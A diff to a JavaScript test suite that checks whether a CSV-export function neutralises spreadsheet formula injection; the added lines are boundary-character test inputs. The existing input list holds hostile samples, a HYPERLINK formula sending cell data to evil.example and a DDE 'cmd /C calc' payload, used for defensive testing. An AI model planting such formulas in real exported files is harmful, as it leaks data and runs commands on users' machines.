@@ -68,6 +68,8 @@ describe('csv_text', () => {
     '\r\n=1', '\n=1', ' =1', "'=1", 'a=b', '1-2', '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '＝1', '＋1', '－1', '＠1', '€=', 'ü', '😀=1', '=😀', 'a,b', 'say "hi"',
     'line\nbreak', 'x'.repeat(10_000), `=${'y'.repeat(10_000)}`, 'Ann Lee', 'donor@example.org', 'cs_test_123',
+    // Either side of the fast path's bound (a first character above '@', 64, is never a formula).
+    '?x', '>x', '<x', '0x', '9', '!', '#', 'A', 'Ax', '[', '`', '~', '\u007f', '\u0080', 'é', '\u0001', '\u001f',
   ];
 
   it('equals neutralise on tricky inputs', async () => {
